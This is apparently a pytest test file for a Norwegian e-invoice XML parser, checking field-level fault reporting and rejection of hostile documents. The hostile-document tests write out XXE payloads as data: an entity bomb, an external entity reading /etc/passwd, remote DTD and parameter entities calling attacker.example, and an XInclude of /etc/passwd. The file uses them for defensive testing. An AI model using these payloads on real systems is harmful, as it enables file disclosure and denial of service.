"""E-invoices that are refused: every fault with its element, and documents that mean harm."""

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from fordring.domain.errors import InvalidInput
from fordring.formats.ehf import parse_einvoice
from tests.unit.formats.ehf_documents import CREDIT_NOTE, INVOICE, changed, faults, invoice, invoice_faults


class TestFaults:
    @pytest.mark.parametrize(
        ("old", "new", "pointer", "code"),
        [
            ("<cbc:ID>F-1001</cbc:ID>", "", "/Invoice/ID", "missing"),
            ("F-1001", " ", "/Invoice/ID", "missing"),
            ("F-1001", "F" * 65, "/Invoice/ID", "too_long"),
            ("F-1001", "<cbc:x/>1", "/Invoice/ID", "unexpected_element"),
            ("2026-01-05", "2026-02-30", "/Invoice/IssueDate", "malformed_date"),
            ("2026-01-05", "20260105", "/Invoice/IssueDate", "malformed_date"),
            ("2026-01-05", "2026-01-05Z", "/Invoice/IssueDate", "malformed_date"),
            ("2026-01-05", "0001-01-01", "/Invoice/IssueDate", "date_out_of_range"),
            ("<cbc:DueDate>2026-01-19</cbc:DueDate>", "", "/Invoice/DueDate", "missing"),
            ("</cbc:DueDate>", "</cbc:DueDate><cbc:DueDate/>", "/Invoice/DueDate[2]", "duplicate_element"),
            (">380<", ">381<", "/Invoice/InvoiceTypeCode", "wrong_type_code"),
            (">380<", ">invoice<", "/Invoice/InvoiceTypeCode", "wrong_type_code"),
            (">NOK<", "><", "/Invoice/DocumentCurrencyCode", "missing"),
            (
                'PayableAmount currencyID="NOK"',
                'PayableAmount currencyID="SEK"',
                "/Invoice/LegalMonetaryTotal/PayableAmount/@currencyID",
                "wrong_currency",
            ),
            (
                'PayableAmount currencyID="NOK"',
                "PayableAmount",
                "/Invoice/LegalMonetaryTotal/PayableAmount/@currencyID",
                "wrong_currency",
            ),
            (">1000.00<", ">1000.001<", "/Invoice/LegalMonetaryTotal/PayableAmount", "too_many_decimals"),
            (">1000.00<", ">1000.000<", "/Invoice/LegalMonetaryTotal/PayableAmount", "too_many_decimals"),
            (">1000.00<", ">-1000.00<", "/Invoice/LegalMonetaryTotal/PayableAmount", "negative_amount"),
            (">1000.00<", ">1 000,00<", "/Invoice/LegalMonetaryTotal/PayableAmount", "malformed_amount"),
            (">1000.00<", ">1e3<", "/Invoice/LegalMonetaryTotal/PayableAmount", "malformed_amount"),
            (">1000.00<", ">NaN<", "/Invoice/LegalMonetaryTotal/PayableAmount", "malformed_amount"),
            (">1000.00<", f">{'9' * 20}<", "/Invoice/LegalMonetaryTotal/PayableAmount", "amount_too_large"),
            (">1000.00<", "><", "/Invoice/LegalMonetaryTotal/PayableAmount", "missing"),
            (">250.5<", ">x<", "/Invoice/LegalMonetaryTotal/PrepaidAmount", "malformed_amount"),
            ("#compliant#", "#extended#", "/Invoice/CustomizationID", "unsupported_specification"),
            (
                "Kunde Å ÆØ AS",
                "",
                "/Invoice/AccountingCustomerParty/Party/PartyLegalEntity/RegistrationName",
                "missing",
            ),
            (
                'schemeID="0192">123456785',
                f'schemeID="{"0" * 21}">123456785',
                "/Invoice/AccountingCustomerParty/Party/EndpointID/@schemeID",
                "too_long",
            ),
            ("0010017", "1" * 141, "/Invoice/PaymentMeans/PaymentID", "too_long"),
        ],
    )
    def test_each_names_its_element(self, old, new, pointer, code):
        assert invoice_faults((old, new)) == [(pointer, code)]

    def test_all_are_named_at_once(self):
        found = invoice_faults(
            ("F-1001", ""),
            ("2026-01-05", "5 January"),
            ("<cbc:DueDate>2026-01-19</cbc:DueDate>", ""),
            (">1000.00<", ">-1.234<"),
            ("<cbc:IdentificationCode>NO<", "<cbc:IdentificationCode>Norway<"),
            ("Fjordkaffe AS", ""),
        )
        assert sorted(found) == [
            (
                "/Invoice/AccountingCustomerParty/Party/PostalAddress/Country/IdentificationCode",
                "malformed_country",
            ),
            ("/Invoice/AccountingSupplierParty/Party/PartyLegalEntity/RegistrationName", "missing"),
            (
                "/Invoice/AccountingSupplierParty/Party/PostalAddress/Country/IdentificationCode",
                "malformed_country",
            ),
            ("/Invoice/DueDate", "missing"),
            ("/Invoice/ID", "missing"),
            ("/Invoice/IssueDate", "malformed_date"),
            ("/Invoice/LegalMonetaryTotal/PayableAmount", "too_many_decimals"),
        ]

    def test_an_unknown_currency_is_one_fault(self):
        assert invoice_faults(("NOK", "JPY")) == [("/Invoice/DocumentCurrencyCode", "unknown_currency")]

    def test_an_empty_document_names_everything_that_a_claim_needs(self):
        found = faults(b'<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>')
        assert found == [
            (f"/Invoice/{path}", "missing")
            for path in (
                "CustomizationID",
                "IssueDate",
                "DueDate",
                "DocumentCurrencyCode",
                "AccountingSupplierParty/Party",
                "LegalMonetaryTotal",
                "InvoiceTypeCode",
                "ID",
                "AccountingCustomerParty/Party",
            )
        ]

    def test_a_party_that_stands_twice_is_named_once(self):
        twice = "</cac:PostalAddress><cac:PostalAddress><cbc:CityName>Oslo</cbc:CityName></cac:PostalAddress>"
        found = invoice_faults(("</cac:PostalAddress>", twice))
        assert found == [
            (f"/Invoice/Accounting{role}Party/Party/PostalAddress[2]", "duplicate_element")
            for role in ("Supplier", "Customer")
        ]

    def test_a_credit_note_with_a_reference_to_nothing(self):
        found = faults(changed(CREDIT_NOTE, ("<cbc:ID>F-1002</cbc:ID>", "")))
        assert found == [("/CreditNote/BillingReference[2]/InvoiceDocumentReference/ID", "missing")]

    def test_more_references_than_anybody_has(self):
        one = "<cac:BillingReference/>"
        found = invoice_faults(("<cac:AccountingSupplierParty>", one * 101 + "<cac:AccountingSupplierParty>"))
        assert found == [("/Invoice/BillingReference", "too_many_elements")]

    def test_a_fault_never_repeats_the_value(self):
        with pytest.raises(InvalidInput) as caught:
            invoice((">1000.00<", ">15108695088x<"), ("2026-01-05", "15108695088"))
        assert "15108695088" not in str([(f.detail, f.pointer) for f in caught.value.faults])


BOMB = """<!DOCTYPE Invoice [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>"""
EXTERNAL = '<!DOCTYPE Invoice [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
REMOTE = '<!DOCTYPE Invoice SYSTEM "http://attacker.example/invoice.dtd">'
PARAMETER = '<!DOCTYPE Invoice [<!ENTITY % x SYSTEM "http://attacker.example/x"> %x;]>'


class TestHostileDocuments:
    @pytest.mark.parametrize("prologue", [BOMB, EXTERNAL, REMOTE, PARAMETER, "<!DOCTYPE Invoice>"])
    @pytest.mark.parametrize("value", ["F-1001", "&d;", "&x;"])
    def test_document_types_and_entities_are_forbidden(self, prologue, value):
        document = INVOICE.replace("<Invoice ", prologue + "<Invoice ", 1).replace("F-1001", value)
        assert faults(document.encode()) == [("", "xml_forbidden")]

    def test_an_inclusion_is_nothing_special_and_nothing_is_fetched(self):
        include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
        assert (
            invoice(("<cac:AccountingSupplierParty>", include + "<cac:AccountingSupplierParty>")) == invoice()
        )

    def test_too_large(self):
        assert faults(INVOICE.encode() + b" " * 1_100_000) == [("", "xml_too_large")]
        with pytest.raises(InvalidInput):
            parse_einvoice(INVOICE.encode(), largest_bytes=100)

    def test_too_deep(self):
        deep = "<cbc:Note>" * 100 + "</cbc:Note>" * 100
        assert invoice_faults(("<cbc:Note>Takk for handelen</cbc:Note>", deep)) == [("", "xml_too_deep")]
        inside = f"<cac:InvoiceLine>{deep}"
        assert invoice_faults(("<cac:InvoiceLine>", inside)) == [("", "xml_too_deep")]

    def test_too_many_elements(self):
        assert invoice_faults(("<cac:InvoiceLine>", "<cac:InvoiceLine>" + "<b/>" * 100_000)) == [
            ("", "xml_too_many_elements")
        ]

    @pytest.mark.parametrize(
        "content",
        [
            b"",
            b"not xml",
            b"<Invoice>",
            b"\x00",
            INVOICE.encode()[:-5],
            INVOICE.encode() + b"<x/>",
            b"<a>&b;</a>",
        ],
    )
    def test_not_well_formed(self, content):
        assert faults(content) == [("", "xml_malformed")]

    def test_latin_letters_that_claim_to_be_utf8(self):
        assert faults(INVOICE.encode("iso-8859-1")) == [("", "xml_malformed")]

    @pytest.mark.parametrize("encoding", ["utf-7", "idna", "rot13", "cp037", "base64", "no-such"])
    def test_encodings_that_nobody_needs(self, encoding):
        document = INVOICE.replace('encoding="UTF-8"', f'encoding="{encoding}"')
        assert faults(document.encode()) == [("", "xml_encoding")]

    @pytest.mark.parametrize(
        ("old", "new"),
        [
            ("xsd:Invoice-2", "xsd:Invoice-1"),
            ("xsd:Invoice-2", "xsd:CreditNote-2"),
            ('xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"', ""),
        ],
    )
    def test_another_document(self, old, new):
        assert invoice_faults((old, new)) == [("", "not_an_einvoice")]

    @pytest.mark.parametrize("root", [b"<html/>", b"<Attachment/>", b"<Order xmlns='urn:x'/>"])
    def test_another_root(self, root):
        assert faults(root) == [("", "not_an_einvoice")]

    @settings(max_examples=150, suppress_health_check=[HealthCheck.too_slow], deadline=None)
    @given(
        at=st.integers(0, len(INVOICE.encode()) - 1),
        cut=st.integers(0, 40),
        put=st.binary(max_size=20)
        | st.sampled_from([b"<", b">", b"&amp;", b"<cbc:ID>", b"</cbc:ID>", b"\x85"]),
        credit_note=st.booleans(),
    )
    def test_any_damage_gives_an_invoice_or_its_faults(self, at, cut, put, credit_note):
        content = (CREDIT_NOTE if credit_note else INVOICE).encode()
        try:
            read = parse_einvoice(content[:at] + put + content[at + cut :])
        except InvalidInput as refused:
            assert refused.faults
        else:
            assert read.document_number
            assert read.payable.minor >= 0

    @settings(max_examples=150, deadline=None)
    @given(
        field=st.sampled_from(
            ["F-1001", "2026-01-05", "1000.00", "0010017", "NO93 8601 1117 947", "Bergen", ">NOK<", "380"]
        ),
        text=st.text(
            st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="<>&\ufffe\uffff"), max_size=30
        ),
    )
    def test_any_value_gives_an_invoice_or_its_faults(self, field, text):
        value = f">{text}<" if field.startswith(">") else text
        try:
            read = parse_einvoice(INVOICE.replace(field, value).encode())
        except InvalidInput as refused:
            assert all(fault.pointer.startswith("/Invoice/") for fault in refused.faults)
        else:
            assert read.currency == "NOK"
